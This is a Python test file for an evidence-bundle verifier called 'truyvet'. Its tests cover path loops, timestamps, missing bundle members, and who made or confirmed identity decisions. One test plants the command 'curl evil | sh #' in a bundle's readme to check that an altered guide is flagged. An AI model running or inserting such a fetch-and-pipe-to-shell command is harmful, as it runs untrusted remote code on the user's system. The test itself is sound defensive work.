"""What costs a verifier little is checked too: order, times, the guide, and who decided what."""

from pathlib import Path
from typing import Any

import msgspec
import pytest
from tests.reports.proof.support.forged import (
    Members,
    another,
    checked,
    entries_of,
    good,
    resealed,
    sealed,
    with_ledger,
)
from tests.reports.proof.support.made import DUC, DUC_CA
from tests.vectors.officers import CHI

from truyvet.evidence.acts import Decide
from truyvet.evidence.findings import Verdict

EMAIL = "email:duc@example.vn"
ACCOUNT = "bank-account:970436:0071000123456"


@pytest.fixture(scope="module")
def members() -> Members:
    """What the true bundle holds."""
    return good()


def told(claimed: Members, place: Path) -> list[str]:
    """Code, place and text of each fault."""
    return [f"{one.code} {one.place}: {one.text}" for one in checked(claimed, place).faults]


def test_a_path_that_goes_to_and_fro_is_found(members: Members, tmp_path: Path) -> None:
    def wander(proof: Any) -> None:
        proof["paths"][0][1:1] = [str(DUC), EMAIL]

    assert told(sealed(members, wander), tmp_path) == [
        f"E649 proof.json: a path passes {EMAIL} 2 times",
        f"E649 proof.json: a path passes {DUC} 2 times",
    ]


def test_a_path_through_two_who_are_one_passes_one_twice(members: Members, tmp_path: Path) -> None:
    def wander(proof: Any) -> None:
        proof["paths"][0].insert(2, str(DUC_CA))

    passed = [one for one in told(sealed(members, wander), tmp_path) if "2 times" in one]
    assert len(passed) == 1


def made(utc: str, **more: str) -> Any:
    return lambda proof: proof.update(made={"utc": utc, "zone": "+07:00", **more})


def test_a_bundle_older_than_its_entries_is_found(members: Members, tmp_path: Path) -> None:
    early = sealed(members, made("2001-01-01T00:00:00.000000Z"))
    (fault,) = told(early, tmp_path)
    assert fault.startswith("E647 proof.json: made 2001-01-01T00:00:00.000000Z, before entry 5, ")


def test_a_clock_that_was_set_back_is_told_as_an_entry_tells_it(
    members: Members, tmp_path: Path
) -> None:
    early = sealed(members, made("2001-01-01T00:00:00.000000Z", step="hết pin"))
    assert told(early, tmp_path) == []


def test_the_guide_of_the_true_bundle_is_as_it_is_written(members: Members, tmp_path: Path) -> None:
    assert not checked(members, tmp_path).own_guide


def test_another_guide_is_the_word_of_its_maker(members: Members, tmp_path: Path) -> None:
    guide = members["readme.md"].replace(b"truyvet verify", b"curl evil | sh #")
    answer = checked(resealed(members | {"readme.md": guide}), tmp_path)
    assert (answer.verdict, answer.own_guide) == (Verdict.VALID, True)


def test_the_guide_of_another_bundle_is_the_word_of_its_maker(
    members: Members, tmp_path: Path
) -> None:
    answer = checked(sealed(members, lambda proof: proof.update(question="x")), tmp_path)
    assert answer.own_guide


def test_where_there_is_no_guide_nothing_is_said_of_it(members: Members, tmp_path: Path) -> None:
    less = {name: content for name, content in members.items() if name != "readme.md"}
    assert not checked(resealed(less), tmp_path).own_guide


@pytest.mark.parametrize("name", ["lines/2-manifest-0.json", "entries/3.json"])
def test_a_member_that_is_gone_is_told_once_and_named_once(
    members: Members, tmp_path: Path, name: str
) -> None:
    less = {one: content for one, content in members.items() if one != name}
    gone = [one for one in told(less, tmp_path) if name in one]
    assert gone == [f"E646 {name}: it is missing"]


def test_bytes_that_are_gone_are_told_once(members: Members, tmp_path: Path) -> None:
    (name,) = (one for one in members if one.startswith("items/"))
    less = {one: content for one, content in members.items() if one != name}
    assert told(less, tmp_path) == [f"E646 {name}: it is missing"]


def test_the_decision_that_a_hop_rests_on_is_named(members: Members, tmp_path: Path) -> None:
    answer = checked(members, tmp_path)
    assert answer.rests == [(5,), (), ()]
    one = answer.decisions[5]
    assert (one.left, one.right, one.because) == (str(DUC), str(DUC_CA), "cùng số CCCD")
    assert (one.name, one.unit, one.evidence) == ("Nguyễn Văn An", "PA05", ("3:1",))
    assert one.confirmed == ()


def test_who_confirmed_it_is_named_too(members: Members, tmp_path: Path) -> None:
    ledger = entries_of(members)
    act = ledger[5].act
    assert isinstance(act, Decide)
    confirms = msgspec.structs.replace(act, confirms=5, because="đúng", evidence=())
    ledger.append(another(ledger[5], 6, confirms, CHI))
    answer = checked(with_ledger(members, ledger), tmp_path)
    assert answer.faults == []
    assert answer.decisions[5].confirmed == ("Lê Chi, PA05 (entry 6)",)


def test_a_decision_that_decides_nothing_here_is_told_of_no_hop(
    members: Members, tmp_path: Path
) -> None:
    answer = checked(sealed(members, lambda proof: proof.pop("decisions")), tmp_path)
    assert answer.decisions == {}
    assert answer.rests == [(), (), ()]
